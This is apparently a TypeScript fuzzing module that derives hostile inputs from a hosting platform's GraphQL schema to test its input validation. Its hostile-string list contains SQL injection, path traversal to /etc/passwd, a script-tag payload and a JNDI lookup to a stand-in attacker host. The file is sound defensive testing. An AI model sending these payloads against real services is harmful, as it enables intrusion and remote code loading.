import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import fc from 'fast-check';
import {
  buildSchema,
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputObjectType,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';

// Hostile inputs for every operation of the platform schema that takes arguments, read from the schema
// itself: each argument and each field inside it, down to list items, gets values of its kind that a
// careless or malicious client sends (empty, huge, NUL and other control characters, emoji, lone
// surrogates, injection strings, wrong types, out-of-range numbers, duplicate and oversized lists,
// nulls), one position at a time on an otherwise valid request, written as variables and as an inline
// literal. Valid requests come from BASES (which name the seeded resources, so mutations reach their
// rules) or, for an operation without one, from the schema alone.

export function platformSchema(): GraphQLSchema {
  const file = createRequire(import.meta.url).resolve('@berth/schema/platform.graphql');
  return buildSchema(readFileSync(file, 'utf8'));
}

export interface Operation {
  kind: 'query' | 'mutation';
  field: GraphQLField<unknown, unknown>;
}

/** Every mutation, and every query that takes arguments (ids, names, filters). */
export function operationsOf(schema: GraphQLSchema): Operation[] {
  const mutations = Object.values(schema.getMutationType()?.getFields() ?? {});
  const queries = Object.values(schema.getQueryType()?.getFields() ?? {}).filter(
    (field) => field.args.length > 0,
  );
  return [
    ...mutations.map((field) => ({ kind: 'mutation' as const, field })),
    ...queries.map((field) => ({ kind: 'query' as const, field })),
  ];
}

/** Stands for a value known once the world is seeded (see fuzz-world.ts), e.g. `⟨volumeId⟩`. */
export const placeholder = (name: string) => `⟨${name}⟩`;
/** A name no resource has yet: each request gets its own, so creates reach their rules. */
export const FRESH = placeholder('fresh');

const resource = (name: string) => ({ name, namespace: 'shop' });

/** Valid arguments of the operations, on the seeded world (fuzz-world.ts). */
const BASES: Record<string, Record<string, unknown>> = {
  namespaceCreate: { namespaceInput: { name: FRESH, description: 'fuzzing' } },
  // It holds resources: refused unless told to delete them too, which no hostile value asks.
  namespaceDelete: { namespace: { name: 'shop' } },
  containerCreate: {
    containerInput: { ...resource(FRESH), image: 'nginx:1.27', ports: ['8080'] },
  },
  containerModify: { containerInput: resource('web') },
  containerDelete: { container: resource('web') },
  containerJobCreate: {
    scheduledJob: {
      ...resource(FRESH),
      image: 'alpine:3.20',
      resources: 'CPU_250_RAM_500',
      schedule: '0 4 * * 1',
      enabled: false,
    },
  },
  containerJobModify: { scheduledJob: resource('backup') },
  containerJobDelete: { scheduledJob: resource('backup') },
  containerJobRun: { scheduledJob: resource('backup') },
  registryConnectionCreate: {
    registryInput: {
      ...resource(FRESH),
      source: 'registry.example.com',
      username: 'robot',
      password: 'hunter22',
      verify: false,
    },
  },
  registryConnectionDelete: { registryConnection: resource('private') },
  volumeCreate: { volumeInput: { ...resource(FRESH), size: 1 } },
  volumeIncrease: { volumeInput: { ...resource('data'), size: 20 } },
  volumeDelete: { volume: resource('data') },
  namespace: { name: 'shop' },
  container: { containerResourceInput: resource('web') },
  containerJob: resource('backup'),
  privateRegistries: { namespace: 'shop' },
  volume: { id: placeholder('volumeId') },
  volumes: { namespaceId: placeholder('namespaceId') },
  resourceSpecifications: { kind: 'container' },
  auditLogs: { customerId: placeholder('customerId') },
  cloudDatabaseClusterCreate: {
    cloudDatabaseClusterInput: {
      ...resource(FRESH),
      spec: { type: 'postgresql', version: '16' },
      plan: 'xs-1',
    },
  },
  cloudDatabaseClusterModify: {
    cloudDatabaseClusterInput: { ...resource('orders'), databases: [{ name: 'more' }] },
  },
  cloudDatabaseClusterDelete: { cloudDatabase: resource('orders') },
  cloudDatabaseClusterUserCreate: {
    userInput: { cluster: resource('orders'), user: { name: 'reader', permissions: [] } },
  },
  cloudDatabaseClusterUserModify: {
    userInput: { cluster: resource('orders'), user: { name: 'app_user', permissions: [] } },
  },
  cloudDatabaseClusterUserDelete: { userInput: { cluster: resource('orders'), name: 'app_user' } },
  cloudDatabaseClusterDatabaseCreate: {
    databaseInput: { cluster: resource('orders'), database: { name: 'more' } },
  },
  cloudDatabaseClusterDatabaseDelete: { databaseInput: { cluster: resource('orders'), name: 'app' } },
  cloudDatabaseCluster: { cloudDatabase: resource('orders') },
  cloudDatabaseClusterUserCredentials: { cloudDatabase: resource('orders'), username: 'app_user' },
  cloudDatabase: { id: placeholder('cloudDatabaseId') },
  createCloudDatabase: {
    customerId: placeholder('customerId'),
    name: 'fresh_db',
    password: 'a-long-password',
    username: 'owner',
    version: 'postgresql-16',
    nodeType: 'db.small',
    location: 1,
    whitelist: [],
  },
  nodeType: { id: 'db.small' },
  nodeTypes: { numberOfNodes: 1 },
};

/** Valid values of input types where the schema alone does not give one. */
const SAMPLES: Record<string, unknown> = {
  EnvironmentVariableInput: { name: 'FUZZ', value: 'x' },
  IngressInput: { port: 8080 },
  MountInput: { path: '/fuzz', volume: { name: 'data' } },
  MountVolumeInput: { name: 'data' },
  HealthCheckInput: { port: 8080, path: '/health' },
  ScalingInput: { manual: { replicas: 1 } },
  AutoScalingInput: { replicas: { minimum: 1, maximum: 2 }, triggers: [{ type: 'CPU', threshold: 80 }] },
  ReplicasInput: { minimum: 1, maximum: 2 },
  AutoScalingTriggerInput: { type: 'CPU', threshold: 80 },
  DatabaseInput: { name: 'more' },
  DatabaseUserInput: { name: 'reader', permissions: [] },
  DatabaseUserPermissionInput: { databaseName: 'app', permission: 'READ_ONLY' },
  AuditLogFilterInput: { eventTypes: ['create'], modelNames: ['Container'] },
};

/** Fields a value of the type must have (non-null, without a default). */
const requiredFields = (type: GraphQLInputObjectType) =>
  Object.values(type.getFields()).filter(
    (field) => isNonNullType(field.type) && field.defaultValue === undefined,
  );

/** A valid value of the type: from SAMPLES, or its required fields with plain values. */
function sampleOf(type: GraphQLInputType): unknown {
  const inner = getNullableType(type);
  if (isListType(inner)) return [sampleOf(inner.ofType as GraphQLInputType)];
  if (isInputObjectType(inner)) {
    if (inner.name in SAMPLES) return structuredClone(SAMPLES[inner.name]);
    return Object.fromEntries(requiredFields(inner).map((field) => [field.name, sampleOf(field.type)]));
  }
  if (isEnumType(inner)) return inner.getValues()[0]?.value;
  const plain: Record<string, unknown> = { Int: 1, Float: 1, Boolean: false };
  return plain[inner.name] ?? 'fuzz';
}

/** The required fields of an input object's sample (anything else as its sample). */
function requiredOf(type: GraphQLInputType): unknown {
  const inner = getNullableType(type);
  const sample = sampleOf(type);
  if (!isInputObjectType(inner)) return sample;
  const values = sample as Record<string, unknown>;
  return Object.fromEntries(requiredFields(inner).map((field) => [field.name, values[field.name]]));
}

function baseOf(field: GraphQLField<unknown, unknown>): Record<string, unknown> {
  const known = BASES[field.name];
  if (known) return structuredClone(known);
  const required = field.args.filter((arg) => isNonNullType(arg.type) && arg.defaultValue === undefined);
  return Object.fromEntries(required.map((arg) => [arg.name, sampleOf(arg.type)]));
}

type Path = (string | number)[];

/** Every place a value can go: the argument, each field of an input object, the first item of a list. */
function* positions(type: GraphQLInputType, path: Path): Generator<{ path: Path; type: GraphQLInputType }> {
  yield { path, type };
  if (path.length > 8) return;
  const inner = getNullableType(type);
  if (isListType(inner)) yield* positions(inner.ofType as GraphQLInputType, [...path, 0]);
  else if (isInputObjectType(inner)) {
    for (const field of Object.values(inner.getFields())) yield* positions(field.type, [...path, field.name]);
  }
}

export interface Hostile {
  label: string;
  value: unknown;
}

const text = (label: string, value: string): Hostile => ({ label, value });

const HOSTILE_STRINGS: Hostile[] = [
  text('empty', ''),
  text('blank', '   '),
  text('64 characters', 'a'.repeat(64)),
  text('300 characters', 'a'.repeat(300)),
  text('5,000 characters', 'a'.repeat(5000)),
  text('40,000 characters', 'a'.repeat(40_000)),
  text('NUL', 'a\u0000b'),
  text('only NUL', '\u0000'),
  text('escape sequence', 'a\u001b[31mb'),
  text('newline and tab', 'a\n\tb'),
  text('DEL and C1', 'a\u007f\u0085b'),
  text('emoji', '🚀💥'),
  text('right-to-left override', 'abc\u202edef'),
  text('lone surrogate', 'a\ud800b'),
  text('SQL injection', "x'; DROP TABLE namespaces; --"),
  text('SQL tautology', "' OR '1'='1"),
  text('path traversal', '../../etc/passwd'),
  text('HTML', '<script>alert(1)</script>'),
  text('template injection', '${jndi:ldap://evil.example/a}'),
  text('huge number', '99999999999999999999'),
  text('beyond a 32-bit id', '2147483648'),
  text('negative number', '-1'),
  text('JSON operator', '{"$ne": null}'),
  { label: 'number (wrong type)', value: 42 },
  { label: 'boolean (wrong type)', value: true },
  { label: 'object (wrong type)', value: { a: 1 } },
];

const HOSTILE_INTS: Hostile[] = [
  { label: '0', value: 0 },
  { label: '-1', value: -1 },
  { label: 'smallest Int', value: -2_147_483_648 },
  { label: 'largest Int', value: 2_147_483_647 },
  { label: 'beyond Int', value: 2_147_483_648 },
  { label: '1e21', value: 1e21 },
  { label: 'fraction', value: 1.5 },
  { label: 'numeric string (wrong type)', value: '7' },
  { label: 'boolean (wrong type)', value: true },
];

const HOSTILE_BOOLEANS: Hostile[] = [
  { label: 'string (wrong type)', value: 'true' },
  { label: 'number (wrong type)', value: 0 },
  { label: 'list (wrong type)', value: [true] },
];

const HOSTILE_ENUMS: Hostile[] = [
  { label: 'unknown value', value: 'NOT_A_VALUE' },
  { label: 'lowercase value', value: 'present' },
  { label: 'empty', value: '' },
  { label: 'number (wrong type)', value: 1 },
];

function hostileLists(item: unknown): Hostile[] {
  return [
    { label: 'empty list', value: [] },
    { label: 'the same item twice', value: [item, structuredClone(item)] },
    { label: '101 items', value: Array.from({ length: 101 }, () => item) },
    { label: '10,000 items', value: Array.from({ length: 10_000 }, () => item) },
    { label: 'a null item', value: [null] },
    { label: 'a bare item', value: item },
    { label: 'string (wrong type)', value: 'text' },
  ];
}

function hostileObjects(sample: unknown, nested: boolean): Hostile[] {
  return [
    // Not hostile, but written inline it is an object of graphql-js's own making (null prototype). An
    // argument's valid value is the base itself, which would delete or change the seeded resources.
    ...(nested ? [{ label: 'a valid object', value: sample }] : []),
    { label: 'empty object', value: {} },
    { label: 'unknown field', value: { ...(sample as object), bogus: 1 } },
    { label: 'string (wrong type)', value: 'text' },
    { label: 'list of it', value: [sample] },
  ];
}

function hostileValues(
  type: GraphQLInputType,
  current: unknown,
  nested: boolean,
  randomStrings: Hostile[],
): Hostile[] {
  const nulls: Hostile[] = [{ label: 'null', value: null }];
  const inner = getNullableType(type);
  if (isListType(inner)) {
    const items = Array.isArray(current) && current.length > 0 ? current : [];
    return [...nulls, ...hostileLists(items[0] ?? sampleOf(inner.ofType as GraphQLInputType))];
  }
  if (isInputObjectType(inner)) return [...nulls, ...hostileObjects(current ?? sampleOf(inner), nested)];
  if (isEnumType(inner)) return [...nulls, ...HOSTILE_ENUMS];
  if (inner.name === 'Int' || inner.name === 'Float') return [...nulls, ...HOSTILE_INTS];
  if (inner.name === 'Boolean') return [...nulls, ...HOSTILE_BOOLEANS];
  return [...nulls, ...HOSTILE_STRINGS, ...randomStrings];
}

const valueAt = (value: unknown, key: string | number): unknown =>
  value !== null && typeof value === 'object' ? (value as Record<string | number, unknown>)[key] : undefined;

/** A copy of the arguments with the value at the path; missing parents start as valid samples. */
function withValue(
  args: Record<string, unknown>,
  path: Path,
  value: unknown,
  types: GraphQLInputType[],
): Record<string, unknown> {
  const copy = structuredClone(args);
  let parent: Record<string | number, unknown> = copy;
  path.slice(0, -1).forEach((key, index) => {
    const type = types[index];
    if (parent[key] === null || typeof parent[key] !== 'object') {
      // A list starts empty and an object with its required fields, so only this position is hostile.
      parent[key] = type && isListType(getNullableType(type)) ? [] : type ? requiredOf(type) : {};
    }
    parent = parent[key] as Record<string | number, unknown>;
  });
  const last = path.at(-1);
  if (last !== undefined) parent[last] = value;
  return copy;
}

export interface FuzzCase {
  operation: Operation;
  /** Arguments, with placeholders (⟨…⟩) for what the seeded world knows. */
  args: Record<string, unknown>;
  /** Where the hostile value is, e.g. `containerInput.environmentVariables[0].value`. */
  position: string;
  label: string;
  mode: 'variables' | 'inline';
}

const pathText = (path: Path) =>
  path.map((key, index) => (typeof key === 'number' ? `[${key}]` : index === 0 ? key : `.${key}`)).join('');

/** Types along a path from the argument's type: types[i] is the type of path[0..i]. */
function typesAlong(argType: GraphQLInputType, path: Path): GraphQLInputType[] {
  const types = [argType];
  let type = argType;
  for (const key of path.slice(1)) {
    const inner = getNullableType(type);
    if (isListType(inner)) type = inner.ofType as GraphQLInputType;
    else if (isInputObjectType(inner)) {
      const field = inner.getFields()[String(key)];
      if (!field) break;
      type = field.type;
    }
    types.push(type);
  }
  return types;
}

/** Every case of one operation (random strings from fast-check, seeded, join the fixed ones). */
export function casesOf(operation: Operation, randomStrings: Hostile[]): FuzzCase[] {
  const base = baseOf(operation.field);
  const cases: FuzzCase[] = [];
  for (const arg of operation.field.args) {
    for (const { path, type } of positions(arg.type, [arg.name])) {
      const current = path.reduce<unknown>((value, key) => valueAt(value, key), base);
      for (const hostile of hostileValues(type, current, path.length > 1, randomStrings)) {
        const args = withValue(base, path, hostile.value, typesAlong(arg.type, path));
        for (const mode of ['variables', 'inline'] as const) {
          cases.push({ operation, args, position: pathText(path), label: hostile.label, mode });
        }
      }
    }
  }
  return cases;
}

/** Strings fast-check makes from the seed: any code points, control characters and emoji included. */
export const randomStrings = (seed: number): Hostile[] =>
  fc
    .sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 24 }), { seed, numRuns: 4 })
    .map((value, index) => text(`random string ${index + 1} ${JSON.stringify(value)}`, value));

/** The cases to run: all of them, or a seeded sample of about `total` spread over the operations. */
export function fuzzPlan(
  schema: GraphQLSchema,
  options: { seed: number; full: boolean; total: number },
): Map<string, FuzzCase[]> {
  const strings = randomStrings(options.seed);
  const all = operationsOf(schema).map((operation) => casesOf(operation, strings));
  const count = all.reduce((sum, cases) => sum + cases.length, 0);
  const plan = new Map<string, FuzzCase[]>();
  for (const cases of all) {
    const name = cases[0]?.operation.field.name;
    if (!name) continue;
    const size = Math.min(cases.length, Math.max(12, Math.round((options.total * cases.length) / count)));
    const chosen = options.full
      ? cases
      : (fc.sample(fc.shuffledSubarray(cases, { minLength: size, maxLength: size }), {
          seed: options.seed,
          numRuns: 1,
        })[0] ?? []);
    plan.set(name, chosen);
  }
  return plan;
}

const NAME = /^[_A-Za-z][_0-9A-Za-z]*$/;

/** The value as a GraphQL literal of the type (enum values bare, everything else as JSON writes it). */
function literal(value: unknown, type: GraphQLInputType): string {
  if (value === null || value === undefined) return 'null';
  const inner = getNullableType(type);
  if (Array.isArray(value)) {
    const item = isListType(inner) ? (inner.ofType as GraphQLInputType) : type;
    return `[${value.map((entry) => literal(entry, item)).join(', ')}]`;
  }
  if (typeof value === 'object') {
    const fields = isInputObjectType(inner) ? inner.getFields() : {};
    const entries = Object.entries(value).map(
      ([key, entry]) => `${key}: ${literal(entry, fields[key]?.type ?? type)}`,
    );
    return `{${entries.join(', ')}}`;
  }
  if (typeof value === 'string') return isEnumType(inner) && NAME.test(value) ? value : JSON.stringify(value);
  return String(value);
}

/** The GraphQL request of a case whose placeholders are filled in. */
export function requestOf(
  operation: Operation,
  args: Record<string, unknown>,
  mode: FuzzCase['mode'],
): { query: string; variables: Record<string, unknown> } {
  const { field } = operation;
  const given = field.args.filter((arg: GraphQLArgument) => Object.hasOwn(args, arg.name));
  const selection = isObjectType(getNamedType(field.type)) ? ' { __typename }' : '';
  const variables: Record<string, unknown> = {};
  const definitions: string[] = [];
  const call = given.map((arg, index) => {
    if (mode === 'inline') return `${arg.name}: ${literal(args[arg.name], arg.type)}`;
    definitions.push(`$v${index}: ${String(arg.type)}`);
    variables[`v${index}`] = args[arg.name];
    return `${arg.name}: $v${index}`;
  });
  const head = definitions.length > 0 ? `${operation.kind} Fuzz(${definitions.join(', ')})` : operation.kind;
  const callText = call.length > 0 ? `(${call.join(', ')})` : '';
  return { query: `${head} { ${field.name}${callText}${selection} }`, variables };
}
